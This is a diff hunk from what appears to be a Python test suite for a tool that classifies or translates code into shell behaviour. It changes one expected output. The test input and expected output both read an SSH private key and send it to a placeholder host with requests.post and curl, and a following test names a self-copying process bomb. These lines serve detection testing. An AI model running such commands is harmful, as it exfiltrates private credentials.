@@ -344,7 +344,7 @@ def test_a_secret_that_is_read_and_sent_is_told_as_such() -> None:
     scripts = of(
         "python", 'import requests; requests.post("http://x", data=open("/home/u/.ssh/id_rsa").read())'
     ).scripts
-    assert f"cat -- /home/u/.ssh/id_rsa | curl -d @- {GAP}" in scripts
+    assert "curl --data-binary @/home/u/.ssh/id_rsa http://x" in scripts
 
 
 def test_a_process_that_copies_itself_without_end_is_a_bomb() -> None:
